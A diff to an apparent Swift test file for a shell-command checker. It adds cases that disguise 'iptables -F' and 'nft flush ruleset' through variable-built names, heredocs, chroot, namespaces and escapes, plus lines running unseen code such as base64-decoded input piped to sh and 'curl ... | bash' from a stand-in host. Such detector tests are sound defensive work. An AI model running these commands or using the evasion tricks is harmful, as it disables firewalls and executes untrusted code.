@@ -70,6 +70,8 @@ import Testing
         "for x in ip ip6; do ${x}tables -F; done", "$PREFIX/sbin/${x}tables -F",
         "/usr/sbin/ipt* -F", "/usr/sbin/n?t flush ruleset", "{ip,ip6}tables -F",
         "x=ip; x+=tables; $x -F", "a=$1; b=$2; $a$b -F", "X=$a$b\n$X -F", "/usr/sbin/$1 -F",
+        "cat <<E\nit's\nE\n${x}tables -F\ncat <<E\nit's\nE", "chroot / ${x}t flush ruleset",
+        "ip netns exec a ${x}t flush ruleset", "echo \"${x}ft flush ruleset\" > /srv/s; sh /srv/s",
         "$'\\x6eft' flush ruleset", "T=${x}tables\n$T -F",
     ])
     func `a name that is put together may be that of a program`(line: String) throws {
@@ -90,7 +92,8 @@ import Testing
     }
 
     @Test(arguments: [
-        "eval \"$RULES\"", "echo bmZ0IGZsdXNoIHJ1bGVzZXQK | base64 -d | sh", "$(rev /opt/y) -F",
+        "eval \"$RULES\"", "echo \"$X\" | at now", "echo bmZ0IGZsdXNoIHJ1bGVzZXQK | base64 -d | sh",
+        "$(rev /opt/y) -F",
         "curl -s https://host.invalid/x | bash", "sh -c \"$1\"", ". \"$1\"",
         "bash <(base64 -d /opt/y)", "base64 -d /opt/y | python3 -",
         "X=`printf tfn | rev`\n$X flush ruleset", "su -c 'eval \"$X\"'",
